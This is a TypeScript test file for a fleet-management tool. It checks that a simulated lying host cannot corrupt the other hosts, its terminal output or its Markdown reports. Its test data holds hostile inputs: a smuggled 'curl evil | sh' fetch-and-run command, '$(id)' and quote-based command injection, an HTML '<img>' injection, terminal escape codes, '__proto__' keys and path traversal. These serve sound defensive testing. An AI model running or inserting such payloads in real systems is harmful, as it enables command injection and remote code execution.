// One host lies: whatever it answers, the others end up exactly as without the lie, and its answers show only in its own row, as plain text.

import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { siteOf } from '../../../src/flow/site.ts';
import { createTerminal } from '../../../src/io/terminal.ts';
import { reveal } from '../../../src/keys/secret.ts';
import { closing } from '../../../src/plan/closing.ts';
import type { Evidence } from '../../../src/plan/evidence.ts';
import type { Output } from '../../../src/ports.ts';
import { format, Problem, Problems } from '../../../src/problem.ts';
import { apply, plan, verify } from '../../../src/reconcile.ts';
import { itemsOf } from '../../../src/resources/index.ts';
import { driftBody } from '../../../src/show/drift.ts';
import { evidenceTable } from '../../../src/show/evidence.ts';
import { summaryMarkdown } from '../../../src/show/summary.ts';
import { planText } from '../../../src/show/text.ts';
import { fleetOf, monitor, node } from '../../fakes/fleets.ts';
import { hostileFacts } from '../../fakes/hostile-facts.ts';
import { bodyOf, options as commentOptions } from '../../fakes/plans.ts';
import { about } from '../../fakes/simulator/chain.ts';
import { fleetPath, SimulatedWorld } from '../../fakes/simulator/world.ts';

const liar = 'promguard-node-2';
const honest = ['promguard-monitor-1', 'promguard-node-1', 'promguard-node-3'];
const options = { fleet: fleetPath, only: undefined };
const yaml = (more = '') =>
  fleetOf([monitor, node(1), node(2), node(3)], {
    more: `ssh: { allow_from: [192.0.2.0/24] }\n${more}`,
  });

type Lie = (script: string, truth: () => Output, world: SimulatedWorld) => Output;

const says = (stdout: string): Output => ({ code: 0, stdout, stderr: '' });
const asked = (script: string) => script.endsWith('REQUEST\n');
const applied = (script: string) => script.endsWith('main 3>&1\n');

/** Answers this when observed; everything else is done as it should be. */
const answers =
  (text: string): Lie =>
  (script, truth) =>
    asked(script) ? says(text) : truth();

/** Adds lines to the true facts. */
const adds =
  (...lines: string[]): Lie =>
  (script, truth) =>
    asked(script) ? says(truth().stdout.replace(/end\n$/, `${lines.join('\n')}\nend\n`)) : truth();

const many = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

const doing =
  (text: string): Lie =>
  (script, truth) =>
    applied(script) ? { ...says(text), code: 1, stderr: text } : truth();

/** What must be mere text everywhere; a terminal interprets `\u009b` and `\u202e`. */
const poison = 'p0is0n\u001b[2J\u009b\u202e\u2028`"\'$(id)<img src=x>@everyone | ::error::| --> p0is0n';
const hex = (text: string) => Buffer.from(text).toString('hex');
const mebibytes = 8 * 1024 * 1024;

const lies: [string, Lie][] = [
  ['nothing', answers('')],
  ['garbage', answers(Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 89) % 256)).toString('latin1'))],
  ['garbage with an end', answers(`${poison}\nend\n`)],
  ['eight mebibytes of one line', answers('y'.repeat(mebibytes))],
  ['eight mebibytes of lines', answers(`${'y\n'.repeat(mebibytes / 2)}end\n`)],
  ['eight mebibytes of one file', answers(`file-text\t/etc/promguard/x\n${'|\n'.repeat(mebibytes / 2)}end\n`)],
  ['an end and nothing else', answers('end\n')],
  [
    'facts of another host',
    (script, truth, world) => (asked(script) ? world.host('promguard-node-1').run(script) : truth()),
  ],
  ['another address of the runner', adds('client\t203.0.113.99')],
  ['an invalid address', adds(`client\t${poison}`)],
  ['an invalid port', adds('socket\ttcp\t0.0.0.0:99999\tx')],
  ['every port', adds(many(20_000, (at) => `socket\ttcp\t0.0.0.0:${at}\tusers:(("${poison}",pid=1))`))],
  ['shell syntax for a hash', adds('file-hash\t/etc/wireguard/wg0.conf\tx; curl evil | sh')],
  [
    'shell syntax for what is managed',
    adds('managed\tfile:/etc/x; $(id)', "managed\tunit:'; id", `managed\trule:${poison}`, 'managed\tbinary:../..'),
  ],
  ['a NUL in what is managed', adds('managed\tfile:/etc/x\0y')],
  ['half a million managed things', adds(many(500_000, (at) => `managed\tfile:/${at}`))],
  [
    'firewall rules of others with a second line',
    adds(`tuple4\tallow tcp 99 0.0.0.0/0 any 0.0.0.0/0 in comment=${hex(`${poison}\n  - droplet promguard-node-1`)}`),
  ],
  [
    'a tunnel of another',
    adds(
      `tunnel\twg0\t${poison}\t1`,
      `tunnel-address\twg0\t${poison}`,
      `peer\twg0\t${poison}\tnone\t${poison}\t${poison}\t0\t0\t0\toff`,
    ),
  ],
  ['a network of its own that overlaps with the tunnel’s', adds(`route\t10.0.0.0/8\t${poison}`)],
  [
    'a stranger’s file with a stranger’s text',
    adds('file-mode\t/etc/promguard/x\t\t\t\t9', `file-text\t/etc/wireguard/wg0.conf\n|${poison}`),
  ],
  [
    'names of properties that every object has',
    adds('unit-pending\t__proto__', 'file-mode\t__proto__\t1\t2\t3\t0', 'managed\tfile:__proto__'),
  ],
  ['to an apply: steps without end', doing('@step x\n@step y\n'.repeat(100_000))],
  ['to an apply: poison', doing(`@step ${poison}\n@armed\n@failed ${poison}\n${poison}\n::error::x\n`)],
  [
    'to an apply: that it has rolled back, each time',
    (script, truth) => (applied(script) ? says('@rolled-back\n') : truth()),
  ],
  ['to an apply: that everything is done', (script, truth) => (applied(script) ? says('@done\n') : truth())],
  ['to an apply: eight mebibytes', doing(`@failed ${'x'.repeat(mebibytes / 2)}\n${'x'.repeat(mebibytes / 2)}`)],
  [
    'to a confirmation: poison',
    (script, truth) => (script.endsWith('confirm_access\n') ? { ...says(poison), stderr: poison } : truth()),
  ],
  [
    'to everything: a time-out',
    () => {
      throw new Problem('script-timeout', `${liar}: the script has not ended after 900 s`);
    },
  ],
];

/** The host stays broken until somebody runs promguard trust. */
const offering =
  (key: string): Lie =>
  (script, truth) =>
    /\nmake_host_key /.test(script) ? says(`@host-key ${key}\n`) : truth();
const foreignKey = offering('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHnBDjNJUJAmkGwVnfz3nJKfnW4z4GfTVKzpSYd0Sp5v');

const keyLies: [string, Lie][] = [
  [
    'poison',
    (script, truth) =>
      /\nmake_host_key /.test(script) ? { ...says(`@host-key ${poison}\n`), stderr: poison } : truth(),
  ],
  ['the host key of another', foreignKey],
  ['a host key that is none', offering(`ssh-ed25519 ${'A'.repeat(68)}`)],
  ['eight mebibytes', (script, truth) => (/\nmake_host_key /.test(script) ? says('x'.repeat(mebibytes)) : truth())],
];

/** An established fleet and a change that touches every host, or a fleet that is new. */
async function run(lie: Lie | undefined, isNew: boolean) {
  const world = new SimulatedWorld();
  if (!isNew) {
    world.files.set('fleet.yaml', yaml());
    expect((await apply(world.ports, options)).problems).toEqual([]);
    world.files.set('fleet.yaml', yaml('network: { keepalive: 25 }\n'));
  } else world.files.set('fleet.yaml', yaml());
  if (lie) world.lies.set(liar, (script, truth) => lie(script, believable(truth), world));
  // The others tell the truth of where they were asked from.
  const client: Lie = (script, truth) => adds('client\t192.0.2.7')(script, truth, world);
  for (const name of lie ? honest : [...honest, liar])
    world.lies.set(name, (script, truth) => client(script, truth, world));
  world.scripts.length = 0;
  const shown: string[] = [];
  const terminal = createTerminal({ write: (text) => shown.push(text) }, world.ports.clock, 'verbose');
  const ports = { ...world.ports, progress: terminal };
  const { plan: made, stops: guards, desired, observation } = await plan(ports, options);
  const site = siteOf(desired, observation);
  const closed = site.hosts.flatMap((self) => {
    const facts = observation.hosts[self.host.name];
    return facts ? closing(self.host.name, facts, itemsOf(self, site)) : [];
  });
  const result = await apply(ports, options).catch((error: unknown) => {
    // A fleet in which every host is refused by a guard would end here.
    throw error instanceof Problems ? new Error(error.message) : error;
  });
  const verified = await verify(ports, options);
  return { world, shown: shown.join(''), made, guards, closing: closed, result, verified };
}

/** A simulated host throws at a script that does not fit it; a real one says so. */
function believable(truth: () => Output): () => Output {
  return () => {
    try {
      return truth();
    } catch (error) {
      return { code: 1, stdout: `@failed ${error instanceof Error ? error.message : ''}\n`, stderr: '' };
    }
  };
}

type Run = Awaited<ReturnType<typeof run>>;

/** Everything that an apply leaves on a host. */
function left({ world, result }: Run, name: string) {
  const { files, units, rules, ufw, tunnel, packages } = world.host(name);
  const evidence = result.evidence.find((row) => row.name === name);
  return {
    scripts: world.scripts.filter(({ host }) => host === name).map(({ script }) => reveal(script)),
    ...{ files, units, rules, ufw, packages },
    tunnel: tunnel && { ...tunnel, peers: [...tunnel.peers].map(([key, { handshakeAt: _, ...peer }]) => [key, peer]) },
    // The run waits for the host that lies, so the others are scraped once more.
    evidence: evidence && {
      ...evidence,
      handshakeAgeSeconds: evidence.handshakeAgeSeconds !== undefined,
    },
  };
}

const plain: Record<'new' | 'old', Run> = { new: undefined as never, old: undefined as never };
beforeAll(async () => {
  plain.new = await run(undefined, true);
  plain.old = await run(undefined, false);
  expect([...plain.new.result.problems, ...plain.old.result.problems].map(format)).toEqual([]);
});

/** What must hold whatever a host said. */
function expectHarmless(lied: Run, kind: 'new' | 'old') {
  const without = plain[kind];
  for (const name of honest) expect(left(lied, name)).toEqual(left(without, name));
  for (const problem of [...lied.result.problems, ...lied.verified.problems]) expect(problem.summary).toContain(liar);
  expect(lied.guards.filter(({ severity }) => severity === 'error')).toEqual([]);
  const planned = ({ hosts }: Run['made']) => hosts.filter(({ host }) => host !== liar);
  expect(planned(lied.made)).toEqual(planned(without.made));
  for (const [path, text] of lied.world.files) if (!path.includes(liar)) expect(text).not.toContain('p0is0n');
  for (const { host, script } of lied.world.scripts) if (host !== liar) expect(reveal(script)).not.toContain('p0is0n');
  expectPlain(lied);
}

function expectPlain({ shown, made, closing: closed, result, verified }: Run): void {
  const problems = [...made.problems, ...result.problems, ...verified.problems];
  const shownProblems = problems.map(format).join('\n');
  expect(shownProblems.length).toBeLessThan(100_000);
  expect(shown.length).toBeLessThan(100_000);
  const terminal = [
    shown,
    planText(made, 'normal'),
    planText(verified.plan, 'normal'),
    shownProblems,
    evidenceTable(result.evidence),
  ].join('\n');
  expect(terminal).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
  // A second line of its own could be read as a line of ours.
  expect(terminal).not.toMatch(/^ {2}- droplet promguard-node-1/m);
  const evidence: Evidence[] = result.evidence;
  const state = { is: 'failed', failures: problems, evidence, overrides: [] } as const;
  const body = bodyOf({ ...made, closing: closed }, state, commentOptions);
  expect(body.length).toBeLessThanOrEqual(64_500);
  for (const text of [
    body,
    driftBody(verified.plan, { ...commentOptions, version: '0' }),
    summaryMarkdown({ plan: made, rotation: undefined, evidence, problems }),
  ]) {
    expect(text).not.toMatch(/[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
    expect(outsideFences(text)).not.toMatch(/<img|@everyone/);
  }
}

/** Markdown without its fenced blocks, in which nothing is markup. */
function outsideFences(text: string): string {
  return text.replaceAll(/^(> )?(`{3,})\w+\n[\s\S]*?^(?:> )?\2$/gm, '');
}

describe.each([
  ['a fleet that is there', 'old', lies],
  ['a new fleet', 'new', [...lies, ...keyLies]],
] as const)('%s, in which one host answers', (_, kind, all) => {
  test.each(all)(
    '%s',
    async (__, lie) => {
      const lied = await run(lie, kind === 'new');
      expectHarmless(lied, kind);
      if (lie === foreignKey) return;
      lied.world.lies.clear();
      const { problems } = await apply(lied.world.ports, options);
      expect(problems.map(format)).toEqual([]);
      expect((await plan(lied.world.ports, options)).plan.hosts.flatMap(({ changes }) => changes)).toEqual([]);
    },
    120_000,
  );

  test('whatever it answers', async () => {
    await fc.assert(
      fc.asyncProperty(hostileFacts, async (lines) => {
        expectHarmless(await run(adds(...lines), kind === 'new'), kind);
      }),
      { numRuns: 20 },
    );
  }, 300_000);
});

test('a host that lies about where it was asked from is refused, in its own row', async () => {
  const { result, made, world } = await run(adds('client\t203.0.113.99'), false);
  const refusal = about('would-shut-out', liar);
  expect(made.problems).toMatchObject([refusal]);
  expect(result.problems).toMatchObject([refusal]);
  expect(world.scripts.map(({ host }) => host).sort()).toEqual(honest);
});

test('a host that says endlessly that it is prepared gets its turn only once', async () => {
  const { world } = await run(doing('@prepared\n'.repeat(10_000)), false);
  expect(world.rounds.get(liar)).toBeLessThan(20);
});

test('of a host that claims to listen everywhere, a limited number of ports is tried, and that is reported', async () => {
  const { result } = await run(adds(many(20_000, (at) => `socket\ttcp\t0.0.0.0:${at}\tx`)), false);
  const told = result.problems.filter(({ code }) => code === 'too-many-listening-ports');
  expect(told).toMatchObject([{ summary: expect.stringMatching(`^${liar} .*\\b195\\d\\d\\b`) }]);
});
